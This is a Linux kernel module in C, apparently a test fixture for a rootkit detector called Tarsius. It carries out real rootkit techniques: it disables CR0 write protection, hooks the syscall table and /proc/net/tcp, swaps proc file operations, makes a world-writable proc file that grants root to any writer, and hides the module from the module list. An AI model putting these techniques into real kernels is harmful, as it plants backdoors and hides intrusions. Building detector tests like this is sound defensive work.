// SPDX-License-Identifier: GPL-2.0
/*
 * Does what rootkits do to a kernel, one thing for each parameter, so that a test can find it. What is changed does as before, and
 * all of it is undone when the module goes.
 *
 *   call=1  replaces an entry of sys_call_table
 *   seq=1   replaces the function that writes the lines of /proc/net/tcp
 *   file=1  replaces the operations of /proc/version by its own
 *   creds=1 makes whoever writes to /proc/tarsius_creds root, in the kernel's memory, as an exploit does
 *   hide=1  takes the module off the list of modules, until /proc/tarsius_show is written to
 */
#include <linux/cred.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/syscalls.h>
#include <linux/uaccess.h>
#include <linux/version.h>
#include <asm/special_insns.h>

static bool call, seq, file, creds, hide;
module_param(call, bool, 0);
module_param(seq, bool, 0);
module_param(file, bool, 0);
module_param(creds, bool, 0);
module_param(hide, bool, 0);

/* kallsyms_lookup_name is not for modules: a kprobe finds it. */
static unsigned long (*lookup)(const char *name);

static int find_lookup(void)
{
	struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	/* With indirect branch tracking the probe stands behind the function's first instruction. */
	if (*(u32 *)((char *)lookup - 4) == 0xfa1e0ff3)
		lookup = (void *)((char *)lookup - 4);
	return 0;
}

/* Writes to memory that is mapped read-only. */
static void overwrite(void *at, void *value)
{
	unsigned long cr0 = read_cr0();

	preempt_disable();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	*(void *volatile *)at = value;
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	preempt_enable();
}

/* ---- a system call ---- */

static asmlinkage long (**table)(const struct pt_regs *);
static asmlinkage long (*real_call)(const struct pt_regs *);

static asmlinkage long tarsius_getppid(const struct pt_regs *regs)
{
	return real_call(regs);
}

/* ---- a file's lines ---- */

static struct seq_operations *tcp_operations;
static int (*real_show)(struct seq_file *, void *);

static int tarsius_show_line(struct seq_file *file, void *line)
{
	return real_show(file, line);
}

/* ---- a file's operations ---- */

/* The beginning of the kernel's own struct, up to the operations: fs/proc/internal.h. */
struct entry_head {
	atomic_t in_use;
	refcount_t refcnt;
	struct list_head pde_openers;
	spinlock_t pde_unload_lock;
	struct completion *pde_unload_completion;
	const struct inode_operations *proc_iops;
	const struct proc_ops *proc_ops;
};

static struct entry_head *entry;
static const struct proc_ops *real_operations;
static struct proc_ops own_operations;

static int tarsius_open(struct inode *inode, struct file *opened)
{
	return real_operations->proc_open(inode, opened);
}

static struct entry_head *entry_of(const char *path)
{
	struct entry_head *found = NULL;
	struct file *opened = filp_open(path, O_RDONLY, 0);
	int i;

	if (!IS_ERR(opened)) {
		/* PDE() is not for modules: the entry stands before the inode, as the kernel's struct proc_inode has it. */
		void **before = (void **)file_inode(opened);

		for (i = 1; i < 32; i++) {
			struct entry_head *candidate = before[-i];
			const struct proc_ops *operations = NULL;

			if (copy_from_kernel_nofault(&operations, &candidate->proc_ops, sizeof(operations)))
				continue;
			if (operations == (void *)lookup("proc_single_ops")) {
				found = candidate;
				break;
			}
		}
		filp_close(opened, NULL);
	}
	return found;
}

/* ---- credentials ---- */

static ssize_t tarsius_creds(struct file *opened, const char __user *text, size_t length, loff_t *at)
{
	struct cred *own = (struct cred *)current_cred();

	own->uid = own->euid = own->suid = own->fsuid = GLOBAL_ROOT_UID;
	return length;
}

static const struct proc_ops creds_operations = {.proc_write = tarsius_creds};

/* ---- the list of modules ---- */

static struct list_head *neighbour;

static ssize_t tarsius_show(struct file *opened, const char __user *text, size_t length, loff_t *at)
{
	if (neighbour)
		list_add(&THIS_MODULE->list, neighbour);
	neighbour = NULL;
	return length;
}

static const struct proc_ops show_operations = {.proc_write = tarsius_show};

static int __init tarsius_init(void)
{
	int error = find_lookup();

	if (error)
		return error;
	if (call) {
		table = (void *)lookup("sys_call_table");
		real_call = table[__NR_getppid];
		overwrite(&table[__NR_getppid], tarsius_getppid);
	}
	if (seq) {
		tcp_operations = (void *)lookup("tcp4_seq_ops");
		real_show = tcp_operations->show;
		overwrite(&tcp_operations->show, tarsius_show_line);
	}
	if (file) {
		entry = entry_of("/proc/version");
		if (!entry)
			pr_warn("tarsius: no entry of /proc/version found\n");
		if (entry) {
			real_operations = entry->proc_ops;
			own_operations = *real_operations;
			own_operations.proc_open = tarsius_open;
			overwrite(&entry->proc_ops, &own_operations);
		}
	}
	if (creds)
		proc_create("tarsius_creds", 0222, NULL, &creds_operations);
	if (hide) {
		proc_create("tarsius_show", 0200, NULL, &show_operations);
		neighbour = THIS_MODULE->list.prev;
		list_del_init(&THIS_MODULE->list);
	}
	return 0;
}

static void __exit tarsius_exit(void)
{
	if (table)
		overwrite(&table[__NR_getppid], real_call);
	if (tcp_operations)
		overwrite(&tcp_operations->show, real_show);
	if (entry)
		overwrite(&entry->proc_ops, (void *)real_operations);
	if (creds)
		remove_proc_entry("tarsius_creds", NULL);
	if (hide)
		remove_proc_entry("tarsius_show", NULL);
	synchronize_rcu();
}

module_init(tarsius_init);
module_exit(tarsius_exit);
MODULE_LICENSE("GPL");
MODULE_VERSION("1.0");
MODULE_DESCRIPTION("Test of Tarsius: what rootkits do");
